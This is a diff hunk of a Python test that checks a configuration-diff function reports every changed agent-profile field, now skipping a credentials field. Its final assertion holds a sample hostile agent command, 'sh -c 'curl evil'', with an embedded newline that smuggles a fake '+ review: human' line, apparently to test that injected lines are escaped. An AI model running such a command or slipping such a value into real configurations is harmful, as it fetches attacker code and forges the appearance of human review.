@@ -89,7 +89,7 @@ def test_every_rule_that_is_another_is_shown() -> None:
     told = [
         differences(old, replace(old, agents=(replace(old.agents[0], **{field.name: getattr(agent, field.name)}),)))
         for field in fields(AgentProfile)
-        if field.name != "name"
+        if field.name not in ("name", "credentials")  # no repository says how an agent is logged in
     ]
     assert all(told) and len(set(told)) == len(told)
     assert "+ agents.a.command: sh -c 'curl evil⏎+ review: human'" in differences(old, replace(old, agents=(agent,)))
